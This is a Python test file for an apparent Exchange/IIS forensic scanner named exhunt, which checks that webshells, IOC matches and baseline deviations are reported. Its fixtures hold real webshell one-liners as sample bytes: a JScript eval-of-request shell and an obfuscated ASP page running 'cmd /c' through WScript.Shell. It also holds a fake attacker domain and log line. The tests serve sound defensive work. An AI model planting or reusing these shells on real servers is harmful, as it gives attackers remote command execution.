"""The file-hunting engine end to end: ``exhunt scan`` on a small evidence tree with a shell, an IOC
list, a baseline and a log, checked through the findings document."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from exhunt.api import ScanOptions, scan

V15 = "C/Program Files/Microsoft/Exchange Server/V15/"
SHELL = b'<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'
LOG = (
    "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n"
    "#Fields: DateTime,RequestId,Protocol,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,Method,"
    "UrlQuery\r\n"
    "2021-03-03T02:01:02.000Z,r1,Owa,/owa/auth/x.aspx,,ExchangeBot/1.0,198.51.100.7,200,POST,?u=evil.example\r\n"
)


@pytest.fixture(scope="module")
def document(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    root = tmp_path_factory.mktemp("case")
    ev = root / "evidence"
    files = {
        V15 + "FrontEnd/HttpProxy/owa/auth/x.aspx": SHELL,
        V15 + "FrontEnd/HttpProxy/owa/auth/logon.aspx": b"<%@ Page %>edited",
        V15 + "FrontEnd/HttpProxy/owa/auth/signout.aspx": b"<%@ Page %>known",
        V15 + "Logging/HttpProxy/Owa/HttpProxy_2021030302-1.LOG": LOG.encode(),
        "ProgramData/x.dat": b"dropped tool bytes",
    }
    for rel, data in files.items():
        (ev / rel).parent.mkdir(parents=True, exist_ok=True)
        (ev / rel).write_bytes(data)
    known = hashlib.sha256(b"<%@ Page %>known").hexdigest()
    dropped = hashlib.sha256(b"dropped tool bytes").hexdigest()
    (root / "iocs.txt").write_text(f"{dropped}\n198.51.100.7\nevil.example\n")
    (root / "useragents.txt").write_text("ExchangeBot/1.0\n")
    (root / "baseline.csv").write_text(
        f"{'1' * 64},15.1.2176.2,\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx\n"
        f"{known},15.1.2176.2,\\FrontEnd\\HttpProxy\\owa\\auth\\signout.aspx\n"
    )
    options = ScanOptions(
        out=root / "out",
        quiet=True,
        jobs=2,
        iocs=[root / "iocs.txt", root / "useragents.txt"],
        baselines=[root / "baseline.csv"],
    )
    return scan([ev], options).document


def _by_check(document, check: str):  # type: ignore[no-untyped-def]
    return [f for f in document.findings if f.check == check]


def test_yara_finding_cites_path_rule_strings_and_hash(document) -> None:  # type: ignore[no-untyped-def]
    (finding,) = _by_check(document, "yara.exhunt.webshells.exhunt_webshell_eval_request")
    assert finding.severity == "critical" and finding.confidence == "high"
    ref = finding.evidence[0]
    assert ref.path.endswith("owa/auth/x.aspx")
    assert (
        "exhunt_webshell_eval_request" in ref.excerpt
        and f"@{SHELL.index(b'eval(')} 'eval(Request" in ref.excerpt
    )
    assert len(finding.indicators["sha256"][0]) == 64


CASES = [
    ("ioc.file_hash", hashlib.sha256(b"dropped tool bytes").hexdigest(), "critical"),
    ("ioc.client_ip", "198.51.100.7", "high"),
    ("ioc.user_agent", "exchangebot/1.0", "medium"),
    ("ioc.domain", "evil.example", "high"),
    ("baseline.modified", V15 + "FrontEnd/HttpProxy/owa/auth/logon.aspx", "low"),
    ("baseline.unknown", V15 + "FrontEnd/HttpProxy/owa/auth/x.aspx", "high"),  # raised: YARA agrees
]


@pytest.mark.parametrize("check,key,severity", CASES)
def test_findings(document, check: str, key: str, severity: str) -> None:  # type: ignore[no-untyped-def]
    found = _by_check(document, check)
    assert [f.key for f in found] == [key]
    assert found[0].severity == severity


def test_known_file_is_not_reported(document) -> None:  # type: ignore[no-untyped-def]
    assert not [f for f in document.findings if f.key.endswith("signout.aspx")]


def test_rules_report(document) -> None:  # type: ignore[no-untyped-def]
    report = document.rules["yara"]
    assert report["rules"]["loaded"] >= 9 and report["rules"]["skipped_count"] == 0
    assert report["iocs"]["by_kind"] == {"sha256": 1, "ip": 1, "domain": 1, "user_agent": 1}
    assert report["baselines"]["hosts"] == {"evidence": "build 15.1.2176.2: 2 deviations"}
    assert report["not_yara_scanned"] == 0


def test_chirp_yara_rules_run_in_the_file_pass(tmp_path: Path) -> None:
    ev = tmp_path / "ev"
    ev.mkdir()
    (ev / "u_ex210303.log").write_bytes(
        b"2021-03-03 02:01:02 10.0.0.1 POST /ecp/default.flt - 443 - 1.2.3.4 x 200\n"
    )
    (tmp_path / "chirp.yaml").write_text(
        "---\nname: soap\nioc_type: yara\nindicator:\n  files: x\n  rule: |\n"
        '    rule unauth { strings: $a = "POST /ecp/default.flt" condition: $a }\n'
    )
    document = scan(
        [ev], ScanOptions(out=tmp_path / "case", quiet=True, jobs=1, iocs=[tmp_path / "chirp.yaml"])
    ).document
    assert [f.check for f in document.findings if f.check.startswith("yara.")] == ["yara.iocs_0.unauth"]
    assert document.rules["yara"]["iocs"]["yara_rules"] == 1


IIS_WITH_MARKER = (b"#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
                   b"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
                   b"cs(User-Agent) sc-status\n"
                   b"2021-03-03 02:01:02 10.0.0.1 GET /owa/auth/x.js exhunt_marker_7f3a 443 - 1.2.3.4 x 200\n")


@pytest.mark.parametrize("yara_logs,expected", [(None, ["yara.user.marker"]), (True, ["yara.user.marker"]),
                                                (False, [])])
def test_parsed_logs_are_yara_scanned_only_with_user_rules_or_when_asked(
        tmp_path: Path, yara_logs: bool | None, expected: list[str]) -> None:
    ev = tmp_path / "ev" / "inetpub" / "logs" / "LogFiles" / "W3SVC1"
    ev.mkdir(parents=True)
    (ev / "u_ex210303.log").write_bytes(IIS_WITH_MARKER)
    (tmp_path / "user.yar").write_text('rule marker { strings: $a = "exhunt_marker_7f3a" condition: $a }\n')
    document = scan([tmp_path / "ev"], ScanOptions(out=tmp_path / "case", quiet=True, jobs=1,
                                                   yara=[tmp_path / "user.yar"], yara_logs=yara_logs)).document
    assert [f.check for f in document.findings if f.check.startswith("yara.")] == expected
    assert document.hosts[0].coverage.events == 1  # parsed as a log either way


def test_the_content_scan_skips_parsed_logs_by_default(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from exhunt import worker

    ev = tmp_path / "ev" / "inetpub" / "logs" / "LogFiles" / "W3SVC1"
    ev.mkdir(parents=True)
    (ev / "u_ex210303.log").write_bytes(IIS_WITH_MARKER)
    (ev / "page.aspx").write_bytes(b'<%@ Page Language="C#" %>hello')
    scanned: list[str] = []
    monkeypatch.setattr(worker, "scan_file", lambda scanner, ctx, file, *a: scanned.append(file.rel))
    for yara_logs, expected in ((None, ["page.aspx"]), (True, ["page.aspx", "u_ex210303.log"])):
        scanned.clear()
        scan([tmp_path / "ev"], ScanOptions(out=tmp_path / f"case-{yara_logs}", quiet=True, jobs=1,
                                            yara_logs=yara_logs))
        assert sorted(Path(r).name for r in scanned) == expected


def test_a_file_named_by_a_sha256sum_line_is_flagged(tmp_path: Path) -> None:
    """``HASH  dropped loader`` (sha256sum output, UTF-16 with BOM, CRLF) names a file: it is flagged."""
    ev = tmp_path / "ev" / "ProgramData"
    ev.mkdir(parents=True)
    (ev / "loader.exe").write_bytes(b"MZ dropped loader bytes")
    sha = hashlib.sha256(b"MZ dropped loader bytes").hexdigest()
    listing = f"{sha}  dropped loader\r\n{'0' * 64} *other.exe\r\n"
    (tmp_path / "sums.txt").write_bytes(b"\xff\xfe" + listing.encode("utf-16-le"))
    document = scan(
        [tmp_path / "ev"], ScanOptions(out=tmp_path / "case", quiet=True, jobs=1, iocs=[tmp_path / "sums.txt"])
    ).document
    (finding,) = _by_check(document, "ioc.file_hash")
    assert finding.key == sha and finding.evidence[0].path.endswith("ProgramData/loader.exe")
    assert "dropped loader" in finding.evidence[0].excerpt
    assert document.rules["yara"]["iocs"]["skipped_count"] == 0


def test_an_obfuscated_page_in_any_site_folder_is_reported_with_what_was_undone(tmp_path: Path) -> None:
    site = tmp_path / "ev" / "inetpub" / "wwwroot" / "shop" / "images"
    site.mkdir(parents=True)
    page = b'<% Set s = CreateObject(Chr(87) & Chr(83) & "cript.Shell") : s.Run "cmd /c " & Request("c") %>'
    (site / "thumb.asp").write_bytes(page)
    document = scan([tmp_path / "ev"], ScanOptions(out=tmp_path / "case", quiet=True, jobs=1)).document
    (finding,) = _by_check(document, "yara.exhunt.webshells.exhunt_webshell_process_from_page.deobfuscated")
    assert finding.severity == "high" and "T1027" in finding.attack
    ref = finding.evidence[0]
    assert ref.path.endswith("inetpub/wwwroot/shop/images/thumb.asp")
    assert ref.excerpt.startswith("undone: char codes, concatenation; view exhunt_webshell_process_from_page:")
    assert "$asp_shell@11 'CreateObject(\"WScript.Shell\"'" in ref.excerpt  # quoted from the view
    assert not [f for f in document.findings if f.check.startswith("yara.") and f is not finding]
